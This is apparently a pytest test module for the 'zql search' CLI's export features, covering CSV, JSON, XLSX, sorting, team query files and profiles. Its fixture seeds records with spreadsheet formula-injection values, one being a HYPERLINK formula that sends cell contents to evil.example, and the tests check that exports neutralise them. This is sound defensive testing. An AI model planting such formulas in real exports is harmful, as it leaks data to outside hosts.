"""``zql search`` output (issue 13) through ``zql.cli.main`` against a real sandbox over HTTP:
columns, sorting, formats from the file name, xlsx and excel-csv read back, flat JSON, files
written through a temporary name, team query files, profiles, colour, no silent empty result."""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from tests.client_support import TOKEN, interrupting, reset, searches
from zql.cli import main
from zql.client import flat_columns
from zql.sandbox import Sandbox

HOSTILE = {1: '=HYPERLINK("http://evil.example/?"&A1,"click")', 2: "+SUM(1)", 3: "-2+3",
           4: "@cmd", 5: "\tTab", 6: "\x1b[31mred\u202e"}
FAILS = 'status = "Fail"'


@pytest.fixture(scope="module")
def hostile() -> Iterator[Sandbox]:
    """A sandbox of this module whose first executions carry notes that fight back."""
    with Sandbox(size="small", seed=1, token=TOKEN) as running:
        conn = running.store._conn  # test set-up: put hostile values into the real data
        with running.store._lock:
            for exec_id, note in HOSTILE.items():
                conn.execute("UPDATE executions SET notes = ? WHERE id = ?", (note, exec_id))
            conn.commit()
        running.store.clear_cache()
        yield running


@pytest.fixture
def env(hostile: Sandbox, monkeypatch: pytest.MonkeyPatch) -> Sandbox:
    for name in ("ZEPHYR_USERNAME", "ZEPHYR_PASSWORD", "ZEPHYR_AUTH", "NO_COLOR"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("ZEPHYR_URL", hostile.url or "")
    monkeypatch.setenv("ZEPHYR_TOKEN", TOKEN)
    reset(hostile)
    yield hostile
    reset(hostile)


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(["search", *argv])
    out, err = capsys.readouterr()
    return code, out, err


#: The first six executions (ids 1-6, the hostile ones): everything, sorted by id.
FIRST = ["--all", "--entity", "execution", "--order", "id", "--limit", "6"]


# --------------------------------------------------------------------------- files


@pytest.mark.parametrize(("name", "check"), [
    ("hits.csv", lambda text: next(csv.reader(io.StringIO(text)))[0] == "id"),
    ("hits.json", lambda text: isinstance(json.loads(text), list)),
    ("hits.jsonl", lambda text: all(json.loads(x) for x in text.splitlines())),
])
def test_the_file_name_picks_the_format(env: Sandbox, capsys: pytest.CaptureFixture[str],
                                        tmp_path: Path, name: str, check: object) -> None:
    target = tmp_path / name
    code, out, _ = run(capsys, FAILS, "--entity", "execution", "--limit", "5", "-o", str(target))
    assert code == 0 and out == ""
    assert check(target.read_text(encoding="utf-8"))  # type: ignore[operator]


def test_an_explicit_format_wins_over_the_extension(env: Sandbox,
                                                    capsys: pytest.CaptureFixture[str],
                                                    tmp_path: Path) -> None:
    target = tmp_path / "hits.csv"
    run(capsys, FAILS, "--entity", "execution", "--limit", "3", "-o", str(target),
        "--format", "jsonl")
    assert [json.loads(line)["status"] for line in target.read_text().splitlines()] == [
        "Fail"] * 3


def test_xlsx_read_back_with_openpyxl(env: Sandbox, capsys: pytest.CaptureFixture[str],
                                      tmp_path: Path) -> None:
    target = tmp_path / "hits.xlsx"
    code, _, err = run(capsys, *FIRST, "-o", str(target))
    assert code == 0 and f"6 of 6 rows written to {target}" in err
    sheet = openpyxl.load_workbook(target)["results"]
    assert sheet.freeze_panes == "A2"  # the header row stays on screen
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == flat_columns("execution")
    by_id = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert set(by_id) == set(HOSTILE)
    for exec_id, note in HOSTILE.items():
        row = by_id[exec_id]
        assert isinstance(row["id"], int) and isinstance(row["testcaseId"], int)
        assert row["executedOn"] is None or isinstance(row["executedOn"], dt.datetime)
        stored = re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), row["notes"])
        assert stored == note  # kept as text, exactly
    assert any(isinstance(r["executedOn"], dt.datetime) for r in by_id.values())  # not text
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
    assert sheet.column_dimensions["C"].width > 20  # the name column is fitted


def test_excel_csv_neutralises_formulas_and_plain_csv_stays_exact(
        env: Sandbox, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    excel, exact = tmp_path / "excel.csv", tmp_path / "exact.csv"
    run(capsys, *FIRST, "-o", str(excel), "--excel")
    run(capsys, *FIRST, "-o", str(exact))
    assert excel.read_bytes().startswith(b"\xef\xbb\xbf")
    with excel.open(encoding="utf-8-sig", newline="") as handle:
        notes = {int(r["id"]): r["notes"] for r in csv.DictReader(handle)}
    assert notes == {1: "'" + HOSTILE[1], 2: "'+SUM(1)", 3: "'-2+3", 4: "'@cmd", 5: "'\tTab",
                     6: HOSTILE[6]}
    assert not exact.read_bytes().startswith(b"\xef\xbb\xbf")
    with exact.open(encoding="utf-8", newline="") as handle:
        assert {int(r["id"]): r["notes"] for r in csv.DictReader(handle)} == HOSTILE
    assert run(capsys, *FIRST, "--format", "excel-csv")[1].startswith(
        "\ufeffid,")


def test_flat_json_lines_have_the_csv_columns(env: Sandbox, capsys: pytest.CaptureFixture[str]
                                              ) -> None:
    cols = "id,name,status,executedBy,executedOn"
    _, flat, _ = run(capsys, FAILS, "--entity", "execution", "--limit", "4", "--format", "jsonl",
                     "--flat", "--columns", cols)
    _, table_csv, _ = run(capsys, FAILS, "--entity", "execution", "--limit", "4", "--format",
                          "csv", "--columns", cols)
    rows = [json.loads(line) for line in flat.splitlines()]
    assert [list(r) for r in rows] == [cols.split(",")] * 4
    assert [{k: "" if v is None else str(v) for k, v in r.items()} for r in rows] == list(
        csv.DictReader(io.StringIO(table_csv)))


def test_an_error_keeps_the_previous_file(env: Sandbox, capsys: pytest.CaptureFixture[str],
                                          tmp_path: Path) -> None:
    target = tmp_path / "hits.csv"
    target.write_text("the previous export\n")
    env.control.fail_next(1, status=401)
    code, _, err = run(capsys, FAILS, "--entity", "execution", "-o", str(target))
    assert code == 1 and "authentication failed (401)" in err
    assert target.read_text() == "the previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hits.csv"]  # no temporary left
    env.control.page_cap = 50
    env.control.fail_next(0)
    code, _, err = run(capsys, FAILS, "--entity", "execution", "-o", str(target))
    assert code == 0 and target.read_text().startswith("id,testcaseId,")


def test_the_status_line_counts_the_whole_export(env: Sandbox,
                                                 capsys: pytest.CaptureFixture[str],
                                                 tmp_path: Path) -> None:
    env.control.page_cap = 50
    env.control.latency_ms = 30  # at least 4 pages x 30 ms: more than the last page's 30 ms
    code, _, err = run(capsys, 'notes !~ "zz"', "--entity", "execution", "--limit", "200", "-o",
                       str(tmp_path / "a.jsonl"), "--no-progress")
    found = re.search(r"200 of 200 rows written to \S+ in (\d+) ms|in ([\d.]+) s", err)
    assert code == 0 and found is not None
    elapsed = int(found.group(1)) / 1000 if found.group(1) else float(found.group(2))
    assert elapsed >= 0.12


# --------------------------------------------------------------------------- rows


def test_columns_and_order_by_what_people_see(env: Sandbox,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    since = len(env.control.requests)
    code, out, _ = run(capsys, FAILS, "--entity", "execution", "--limit", "30", "--columns",
                       "id,name,status,executedBy,executedOn", "--order", "executedBy",
                       "--desc")
    lines = out.splitlines()
    assert code == 0 and lines[0].split() == ["id", "name", "status", "executedBy", "executedOn"]
    assert searches(env, since)[-1]["order"] == "executedBy"
    _, csv_out, _ = run(capsys, FAILS, "--entity", "execution", "--limit", "30", "--format",
                        "csv", "--order", "executedby", "--desc")
    testers = [r["executedBy"] for r in csv.DictReader(io.StringIO(csv_out))]
    assert testers == sorted(testers, key=str.casefold, reverse=True)
    since = len(env.control.requests)
    run(capsys, FAILS, "--entity", "execution", "--limit", "3", "--order", "modified")
    assert searches(env, since)[-1]["order"] == "lastModifiedOn"


def test_an_unknown_sort_name_sends_no_search(env: Sandbox, capsys: pytest.CaptureFixture[str]
                                              ) -> None:
    since = len(env.control.requests)
    code, _, err = run(capsys, FAILS, "--entity", "execution", "--order", "prority")
    assert code == 2 and "did you mean 'priority'?" in err
    assert searches(env, since) == []


def test_limit_zero_is_no_limit_and_all_lists_everything(env: Sandbox,
                                                         capsys: pytest.CaptureFixture[str]
                                                         ) -> None:
    total = env.store.rows("SELECT count(*) FROM executions WHERE status_id = 2")[0][0]
    _, out, _ = run(capsys, FAILS, "--entity", "execution", "--limit", "0", "--format", "jsonl")
    assert len(out.splitlines()) == total
    every = env.store.rows("SELECT count(*) FROM requirements")[0][0]
    code, out, _ = run(capsys, "--all", "--entity", "requirement", "--format", "jsonl")
    assert code == 0 and len({json.loads(x)["id"] for x in out.splitlines()}) == every


def test_a_table_to_a_pipe_is_not_cut(env: Sandbox, capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = run(capsys, FAILS, "--entity", "execution", "--limit", "50", "--columns",
                    "id,name,cycle,release,project,tags,notes")
    assert max(len(line) for line in out.splitlines()) > 80 and "…" not in out


# --------------------------------------------------------------------------- no silent empty


def test_warnings_come_before_the_search(env: Sandbox, capsys: pytest.CaptureFixture[str]
                                         ) -> None:
    code, out, err = run(capsys, 'status in ("Failed", "Blocked")', "--entity", "execution",
                         "--format", "jsonl", "--limit", "5")
    assert code == 0 and {json.loads(x)["status"] for x in out.splitlines()} == {"Blocked"}
    assert '"Failed" is not a known status; did you mean "Fail"?' in err


def test_an_empty_result_says_so_with_the_warnings_and_a_hint(
        env: Sandbox, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, 'status = "Failed"', "--entity", "execution", "--format",
                         "jsonl")
    lines = err.splitlines()
    assert (code, out) == (0, "")
    assert lines.count(next(x for x in lines if "is not a known status" in x)) == 2
    assert "zql search: 0 executions" in lines
    assert lines[-1].startswith("zql search: hint: a value or field above is not what the "
                                "server knows")
    _, _, err = run(capsys, 'status = "Fail" and priority = "Nope"', "--entity", "execution",
                    "--release", "Ironclad 3.0", "--format", "jsonl", "--project",
                    "Project Ironclad", "--no-validate")
    assert ("hint: only release 'Ironclad 3.0' and project 'Project Ironclad' was searched; "
            "leaving out --release/--project searches everywhere") in err


@pytest.mark.parametrize(("mode", "coloured"), [("always", True), ("never", False),
                                                ("auto", False)])
def test_color_flag(env: Sandbox, capsys: pytest.CaptureFixture[str], mode: str,
                    coloured: bool) -> None:
    _, _, err = run(capsys, 'status in ("Failed", "Blocked")', "--entity", "execution",
                    "--format", "jsonl", "--limit", "1", "--color", mode)
    assert ("\x1b[1;33mwarning\x1b[0m" in err) is coloured and ("\x1b" in err) is coloured


# --------------------------------------------------------------------------- team files

TEAM = """# zql: entity=execution release="Atlas 4.0"
# name: nightly-fails
status = "Fail";

# name: blocked
status = "Blocked" and priority = "High";
status = "WIP"
"""


def test_team_file_list_and_run(env: Sandbox, capsys: pytest.CaptureFixture[str],
                                tmp_path: Path) -> None:
    team = tmp_path / "team.zql"
    team.write_text(TEAM)
    code, out, _ = run(capsys, "-f", str(team), "--list")
    assert code == 0 and out.splitlines() == [
        f'nightly-fails  {team}:3  status = "Fail"',
        f'blocked        {team}:6  status = "Blocked" and priority = "High"']
    since = len(env.control.requests)
    code, out, _ = run(capsys, "-f", str(team), "--name", "nightly-fails", "--format", "jsonl")
    sent = searches(env, since)[-1]
    assert code == 0 and sent["entitytype"] == "execution" and sent["releaseid"] == "3"
    assert {json.loads(x)["releaseName"] for x in out.splitlines()} == {"Atlas 4.0"}
    since = len(env.control.requests)
    run(capsys, "-f", str(team), "--name", "blocked", "--release", "-1" if False else "1",
        "--format", "jsonl")
    assert searches(env, since)[-1]["releaseid"] == "1"  # an option overrides the header
    code, _, err = run(capsys, "-f", str(team), "--name", "nightly-fail")
    assert code == 2 and "no query named 'nightly-fail'; did you mean 'nightly-fails'?" in err
    code, _, err = run(capsys, "-f", str(team))
    assert code == 2 and "-f FILE needs --name NAME" in err


def test_profile_from_the_shell_config(env: Sandbox, capsys: pytest.CaptureFixture[str],
                                       tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    config = tmp_path / "config.toml"
    config.write_text(f'[profiles.sb]\nurl = "{env.url}"\ntoken_env = "ZQL_TEST_TOKEN"\n'
                      'entity = "execution"\n')
    monkeypatch.delenv("ZEPHYR_URL")
    monkeypatch.delenv("ZEPHYR_TOKEN")
    monkeypatch.setenv("ZQL_TEST_TOKEN", TOKEN)
    code, out, err = run(capsys, FAILS, "--profile", "sb", "--config", str(config), "--limit",
                         "2", "--format", "jsonl")
    assert code == 0, err
    assert [json.loads(x)["status"] for x in out.splitlines()] == ["Fail", "Fail"]
    code, _, err = run(capsys, FAILS, "--profile", "other", "--config", str(config))
    assert code == 2 and "unknown profile 'other' (profiles: sb)" in err
    assert TOKEN not in err


def test_help_lists_every_flag_in_the_docs() -> None:
    from zql.cli import build_parser

    docs = (Path(__file__).parent.parent / "docs" / "cli.md").read_text(encoding="utf-8")
    parser = build_parser()
    sub = parser._subparsers._group_actions[0].choices  # type: ignore[union-attr]
    missing = []
    for name in ("search", "completion", "sandbox"):
        for action in sub[name]._actions:
            if action.help == argparse.SUPPRESS:
                continue
            for flag in action.option_strings:
                if name == "sandbox" and flag != "--env":
                    continue  # the sandbox's own options: docs/sandbox.md
                if flag.startswith("--") and flag != "--help" and f"`{flag}" not in docs:
                    missing.append(f"{name} {flag}")
    assert missing == []


def test_the_python_example_of_the_docs_runs_as_shown(tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    """The example as a script of its own (fresh globals, run in an empty directory)."""
    text = (Path(__file__).parent.parent / "docs" / "cli.md").read_text(encoding="utf-8")
    section = text[text.index("### From Python"):text.index("## Team query files")]
    code, shown = re.findall(r"```(?:python)?\n(.*?)```", section, re.S)[:2]
    monkeypatch.chdir(tmp_path)
    exec(compile(code, "docs/cli.md (From Python)", "exec"), {"__name__": "__main__"})
    assert capsys.readouterr().out == shown
    assert (tmp_path / "fails.xlsx").stat().st_size > 0


def test_ctrl_c_before_any_row_keeps_the_previous_file(env: Sandbox, tmp_path: Path,
                                                       capsys: pytest.CaptureFixture[str]
                                                       ) -> None:
    """Interrupted while the first page is held: nothing written yet, the old file stays.
    (In-process: what SIGINT delivers; the real signal to the console script is sent in
    tests/test_cli_search.py.)"""
    target = tmp_path / "hits.csv"
    target.write_text("the previous export\n")
    with env.control.gate("/advancesearch") as gate:
        thread = interrupting(gate)
        try:
            code, out, err = run(capsys, FAILS, "--entity", "execution", "-o", str(target),
                                 "--no-progress")
        finally:
            thread.join(timeout=60)
    assert (code, out) == (130, "")
    assert err.strip().splitlines()[-1] == (
        f"zql search: interrupted; 0 rows written to {target} ({target} is unchanged)")
    assert target.read_text() == "the previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hits.csv"]
